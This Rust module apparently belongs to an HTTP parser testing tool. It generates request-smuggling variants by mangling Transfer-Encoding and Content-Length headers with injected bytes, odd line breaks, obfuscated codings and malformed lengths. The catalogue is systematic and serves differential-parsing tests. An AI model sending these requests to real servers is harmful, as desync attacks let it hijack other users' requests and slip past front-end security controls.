//! Fields that frame a message, written so that one reader heeds them and another does not.
//!
//! ```text
//! template + byte ──► line ──┬─► beside a length that covers all          (CL.TE)
//!                            ├─► beside chunks that cover all             (TE.CL)
//!                            └─► alone, before all other fields           (0.CL, TE.0)
//! ```

use super::attack::{Attack, HIDDEN, HOST, ends_early, in_a_chunk};
use crate::support::full_storm;

/// `@` is the byte, `N` the field's name and `V` its value; `n` and `m` are the name's parts, `v` and `w` the value's.
const WITH_A_BYTE: [&str; 18] = [
    "@N: V",
    "N@: V",
    "N:@V",
    "N: V@",
    "n@m: V",
    "N: v@w",
    "X: x@N: V",
    "X: x\r@N: V",
    "X: x@\nN: V",
    "N: V@X: x",
    "N: V\r@X: x",
    "N: V@\nX: x",
    "@N@: V",
    "@N:@V",
    "@N: V@",
    "N@:@V",
    "N@: V@",
    "N:@V@",
];

const WITHOUT: [&str; 46] = [
    "N:V",
    "N:  V",
    "N:: V",
    "N V",
    "N",
    "N:",
    "N x: V",
    "N:\n V",
    "N:\r\n V",
    "N:\r\n\tV",
    "N:\r\n \r\n V",
    "N\n : V",
    "N\r\n: V",
    "N\r\n : V",
    "n-\r\nm: V",
    "n-\nm: V",
    "X: x\r\n N: V",
    "X: x\r\n\tN: V",
    "X: x\r\n\rN: V",
    "X: x\n\nN: V",
    "X: x\r\n\nN: V",
    "X: x\n \nN: V",
    "X: x\n\r\nN: V",
    "X: x\r\n \r\nN: V",
    "X: x\r\n\r\r\nN: V",
    "X\r\nN: V",
    ":\r\nN: V",
    ": x\r\nN: V",
    "X y: x\r\nN: V",
    "N: V\r\nN: V",
    "N: \r\nN: V",
    "N: V\r\nN:",
    "N: x\r\nN: V",
    "N: V\r\nN: x",
    "Connection: N\r\nN: V",
    "N: V\r\nConnection: close, N",
    "Connection : N\r\nN: V",
    "n%2dm: V",
    "N: \"V\"",
    "N: 'V'",
    "N: V, V",
    "N: ,V",
    "N: V,",
    "N: V;a=b",
    "N: V V",
    "N: \\V",
];

const OF_CODINGS: [&str; 13] = [
    "TRANSFER-ENCODING: CHUNKED",
    "tRANSFER-ENCODING: cHuNkEd",
    "Transfer-Encoding: chunk",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: identity",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked, identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: gzip chunked",
    "Transfer-Encoding: =?iso-8859-1?B?Y2h1bmtlZA==?=",
    "Content-Encoding: chunked",
];

const OF_LENGTHS: [&str; 16] = [
    "Content-Length: +5",
    "Content-Length: -5",
    "Content-Length: 0x5",
    "Content-Length: 5e0",
    "Content-Length: 5.0",
    "Content-Length: 05",
    "Content-Length: 00000000000000000000005",
    "Content-Length: 0 5",
    "Content-Length: 0, 5",
    "Content-Length: 5, 0",
    "Content-Length: 0_5",
    "Content-Length: \u{ff15}",
    "Content-Length: 18446744073709551621",
    "Content-Length: 4294967301x",
    "Content-Length: 0\r\nContent-Length: 5",
    "Content-Length: 5\r\nContent-Length: 0",
];

/// All of them in the full run. Otherwise what some reader takes for space, for an end, or for nothing at all. No digit: it would
/// only make another length.
fn bytes() -> Vec<u8> {
    let telling = b"\"',-.:;\\_\x7f\x80\x82\x85\x96\xa0\xad\xc2\xff";
    let all = (0..=255).filter(|byte: &u8| !byte.is_ascii_digit());
    all.filter(|byte| full_storm() || *byte <= b' ' || telling.contains(byte)).collect()
}

fn lines(name: &str, value: &str, more: &[&str]) -> Vec<Vec<u8>> {
    let (n, m) = name.split_once('-').expect("a name of two parts");
    let (v, w) = value.split_at(value.len() / 2);
    // One word for another, each once: what is put in is not looked at again.
    let fill = |template: &str, byte: &[u8]| -> Vec<u8> {
        let word = |c: char| match c {
            '@' => byte.to_vec(),
            'N' => name.into(),
            'V' => value.into(),
            'n' => n.into(),
            'm' => m.into(),
            'v' => v.into(),
            'w' => w.into(),
            other => other.to_string().into_bytes(),
        };
        template.chars().flat_map(word).collect()
    };
    let spelled = |byte: u8| WITH_A_BYTE.iter().map(move |template| (template, byte));
    let mut lines: Vec<Vec<u8>> = bytes().into_iter().flat_map(spelled).map(|(t, byte)| fill(t, &[byte])).collect();
    // `Connection` has letters that stand for words; its templates write it out.
    lines.extend(WITHOUT.iter().map(|template| {
        let (before, after) = template.split_once("Connection").unwrap_or((template, ""));
        let connection = if template.contains("Connection") { "Connection" } else { "" };
        [fill(before, b""), connection.into(), fill(after, b"")].concat()
    }));
    lines.extend(more.iter().map(|line| line.as_bytes().to_vec()));
    lines
}

pub fn attacks() -> Vec<Attack> {
    let mut attacks = Vec::new();
    let shown = |line: &[u8]| line.escape_ascii().to_string();
    for line in lines("Transfer-Encoding", "chunked", &OF_CODINGS) {
        let body = ends_early();
        let length = format!("Content-Length: {}", body.len());
        let name = shown(&line);
        attacks.push(Attack::post(format!("a length, and {name}"), &[length.as_bytes(), &line], body.as_bytes()));
        attacks.push(Attack::post(format!("{name}, and a length"), &[&line, length.as_bytes()], body.as_bytes()));
        attacks.push(alone(&name, &line, b"5\r\nhello\r\n0\r\n\r\n"));
    }
    // Covers the size of the chunk and no more.
    let short = format!("{:x}\r\n", HIDDEN.len()).len().to_string();
    for line in lines("Content-Length", &short, &[]) {
        let name = shown(&line);
        let body = in_a_chunk();
        attacks.push(Attack::post(
            format!("chunks, and {name}"),
            &[b"Transfer-Encoding: chunked", &line],
            body.as_bytes(),
        ));
    }
    for line in lines("Content-Length", "5", &OF_LENGTHS) {
        attacks.push(alone(&shown(&line), &line, b"hello"));
    }
    attacks
}

fn alone(name: &str, line: &[u8], body: &[u8]) -> Attack {
    let head = [b"POST /attack HTTP/1.1\r\n", line, b"\r\nHost: ", HOST.as_bytes()].concat();
    Attack::new(format!("{name} alone"), &head, body)
}
